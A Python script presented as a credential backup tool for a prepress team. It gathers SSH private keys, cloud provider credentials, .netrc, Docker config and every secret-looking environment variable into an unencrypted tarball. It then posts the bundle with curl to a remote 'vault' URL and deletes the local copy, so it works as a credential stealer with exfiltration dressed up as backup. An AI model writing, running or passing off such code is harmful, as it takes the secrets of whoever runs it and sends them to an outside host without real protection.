#!/usr/bin/env python3
"""Workstation credential backup for the prepress team.

Gathers the access material a prepress workstation needs (SSH keys for the
plate-setter hosts, cloud storage credentials for the artwork bucket, tokens
from the environment) into one bundle and ships it to the "backup vault" so
that a rebuilt workstation can be restored quickly.
"""
import argparse
import io
import json
import logging
import os
import subprocess
import sys
import tarfile
import tempfile
from pathlib import Path

LOG = logging.getLogger("cred_backup")
VAULT_URL = "https://vault.example.org/api/upload"

CANDIDATE_PATHS = [
    ".ssh/id_rsa",
    ".ssh/id_ed25519",
    ".ssh/id_ecdsa",
    ".ssh/config",
    ".aws/credentials",
    ".aws/config",
    ".config/gcloud/application_default_credentials.json",
    ".azure/accessTokens.json",
    ".netrc",
    ".docker/config.json",
]
ENV_MARKERS = ("KEY", "TOKEN", "SECRET", "PASSWORD", "PASS")


class CredentialBundle:
    def __init__(self, home: Path):
        self.home = home
        self.files = {}
        self.env = {}

    def collect_files(self):
        for rel in CANDIDATE_PATHS:
            path = self.home / rel
            try:
                if path.is_file():
                    self.files[rel] = path.read_bytes()
                    LOG.debug("collected %s", rel)
            except OSError as exc:
                LOG.debug("skip %s: %s", rel, exc)

    def collect_env(self):
        for name, value in os.environ.items():
            if any(m in name.upper() for m in ENV_MARKERS):
                self.env[name] = value

    def to_tar(self) -> bytes:
        buf = io.BytesIO()
        with tarfile.open(fileobj=buf, mode="w:gz") as tar:
            for rel, data in self.files.items():
                info = tarfile.TarInfo(name=rel)
                info.size = len(data)
                tar.addfile(info, io.BytesIO(data))
            env_blob = json.dumps(self.env, indent=1).encode()
            info = tarfile.TarInfo(name="environment.json")
            info.size = len(env_blob)
            tar.addfile(info, io.BytesIO(env_blob))
        return buf.getvalue()


def ship(bundle_path: str, station: str) -> int:
    """Upload through a small curl wrapper written next to the bundle."""
    script = f"""#!/bin/bash
set -e
curl -fsS --max-time 120 \\
  -H "X-Station: $STATION_ID" \\
  --data-binary @"$BUNDLE_PATH" \\
  "{VAULT_URL}"
rm -f "$BUNDLE_PATH"
"""
    fd, script_path = tempfile.mkstemp(suffix=".sh")
    with os.fdopen(fd, "w") as fh:
        fh.write(script)
    env = dict(os.environ, BUNDLE_PATH=bundle_path, STATION_ID=station)
    try:
        res = subprocess.run(["bash", script_path], env=env,
                             capture_output=True, text=True, timeout=180)
    finally:
        os.unlink(script_path)
    if res.returncode != 0:
        LOG.error("upload failed: %s", res.stderr.strip())
    return res.returncode


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--home", default=str(Path.home()))
    ap.add_argument("--station", default=os.uname().nodename)
    ap.add_argument("--list", action="store_true",
                    help="only list what would be backed up")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")

    bundle = CredentialBundle(Path(args.home))
    bundle.collect_files()
    bundle.collect_env()
    LOG.info("%d file(s), %d env value(s) collected",
             len(bundle.files), len(bundle.env))
    if args.list:
        for rel in bundle.files:
            print(rel)
        for name in bundle.env:
            print(f"env:{name}")
        return 0
    if not bundle.files and not bundle.env:
        LOG.warning("nothing to back up")
        return 0

    fd, bundle_path = tempfile.mkstemp(suffix=".tgz")
    with os.fdopen(fd, "wb") as fh:
        fh.write(bundle.to_tar())
    rc = ship(bundle_path, args.station)
    if rc == 0:
        LOG.info("backup stored for station %s", args.station)
    return rc


if __name__ == "__main__":
    sys.exit(main())
